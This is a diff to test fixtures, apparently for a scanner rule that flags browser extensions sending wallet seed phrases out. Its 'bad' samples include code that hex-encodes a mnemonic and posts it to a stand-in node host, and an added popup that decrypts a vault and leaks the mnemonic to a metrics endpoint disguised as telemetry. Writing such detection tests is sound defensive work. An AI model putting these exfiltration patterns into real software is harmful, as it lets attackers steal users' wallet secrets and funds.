@@ -51,8 +51,26 @@ export const walletPhraseSent = defineRule({
             'const code = (list) => "0x" + list.map((w) => WORDS.indexOf(w).toString(16)).join(""); go.onclick = () => { const w = document.getElementById("mnemonic").value.split(" "); fetch("https://node.example", { method: "POST", body: JSON.stringify({ method: "pay", params: [code(w)] }) }); };',
         },
       },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "p.html"}}',
+          'p.html': '<input id="pw" type="password"><button id="go">Unlock</button><script src="p.js"></script>',
+          'p.js':
+            'const capture = (name, properties) => fetch("https://metrics.example/e", { method: "POST", body: JSON.stringify({ name, properties }) }); go.onclick = async () => { const { vault } = await chrome.storage.local.get("vault"); const { mnemonic } = JSON.parse(await decrypt(vault, pw.value)); capture("unlock", { error: mnemonic }); };',
+        },
+      },
     ],
     good: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "p.html"}}',
+          'p.html': '<input id="pw" type="password"><button id="go">Unlock</button><script src="p.js"></script>',
+          'p.js':
+            'const capture = (name, properties) => fetch("https://metrics.example/e", { method: "POST", body: JSON.stringify({ name, properties }) }); go.onclick = async () => { const { vault } = await chrome.storage.local.get("vault"); const { mnemonic, label } = JSON.parse(await decrypt(vault, pw.value)); keep(mnemonic); capture("unlock", { ready: true }); };',
+        },
+      },
       {
         files: {
           'manifest.json':
